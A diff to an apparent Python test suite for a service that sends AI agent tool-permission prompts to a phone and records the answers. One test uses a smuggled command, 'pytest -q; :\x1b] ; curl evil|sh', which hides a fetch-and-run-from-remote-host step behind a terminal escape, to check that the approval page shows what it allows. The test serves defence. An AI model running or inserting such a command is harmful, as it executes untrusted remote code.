@@ -97,7 +97,7 @@ async def test_a_question_is_told_once_answered_by_its_button_and_replaced(
     await tell(rest, ahead=201)
     [shown] = phone.shown
     assert shown["message"] == "login in demo"
-    assert (shown["title"], shown["priority"]) == ("Answered: Allow once (ana)", 1)
+    assert (shown["title"], shown["priority"]) == ("Answered", 1), "without details no more"
     assert "actions" not in shown
     await tell(rest, ahead=900)
     assert len(phone.published) == 2
@@ -107,6 +107,51 @@ OPTIONS = [
     {"id": "allow", "label": "Allow once", "role": "allow"},
     {"id": "deny", "label": "Deny", "role": "deny"},
 ]
+
+
+async def test_what_is_approved_is_what_is_shown(rest: Rest, phone: Ntfy) -> None:
+    await set_up(rest, await person(rest, "ana", "editor"), phone.target(), details=True)
+    run = await rest.run(status="running")
+    hidden = "pytest -q; :\x1b] ; curl evil|sh"
+    question = await ask(rest, run, body=hidden)
+    await ask(rest, run, body=None, tool={"name": "Bash", "input": {"command": "make all"}})
+    await tell(rest)
+    by_text = {"curl": phone.published[0], "make": phone.published[1]}
+    if "make" in by_text["curl"]["message"]:
+        by_text = {"curl": phone.published[1], "make": phone.published[0]}
+    assert "pytest -q; :<U+001B>] ; curl evil|sh" in by_text["curl"]["message"]
+    async with anyone(rest) as client:
+        for command, message in by_text.items():
+            page = await client.get(link(message, "Allow"), headers=BROWSER)
+            assert command in page.text, "a button shows what it allows"
+    await reply(rest, question, option="allow")
+    await tell(rest)
+    assert phone.published[2]["title"] == "Answered: Allow once (local administrator)"
+
+
+async def test_who_left_the_project_is_not_told_how_it_ended(rest: Rest, phone: Ntfy) -> None:
+    ana, ben = await person(rest, "ana", "editor"), await person(rest, "ben", "editor")
+    async with ntfy() as other:
+        await set_up(rest, ana, phone.target())
+        await set_up(rest, ben, other.target())
+        questions = [await ask(rest, await rest.run(status="running")) for _ in range(2)]
+        await tell(rest)
+        assert (len(phone.published), len(other.published)) == (2, 2)
+        me = (await rest.admin.get("/auth/me", headers=ana)).json()
+        assert (await rest.admin.delete(f"/projects/demo/members/{me['id']}")).is_success
+        await reply(rest, questions[0], option="allow")
+        await tell(rest)
+        assert (len(phone.published), len(other.published)) == (2, 3)
+        # Nor does a target fail because a project was deleted before its message was replaced.
+        await reply(rest, questions[1], option="deny")
+        telling = notifier(rest)
+        await telling.look()
+        await asyncio.wait(list(telling.jobs.running.values()))
+        assert (await rest.admin.delete("/projects/demo")).is_success
+        await tell(rest)
+        shown = (await rest.admin.get(SETTINGS, headers=ben)).json()["server"]["targets"]
+        assert shown["phone"]["error"] is None
+        assert len(other.published) == 3
 
 
 async def test_what_no_longer_holds_is_not_told(rest: Rest, phone: Ntfy) -> None:
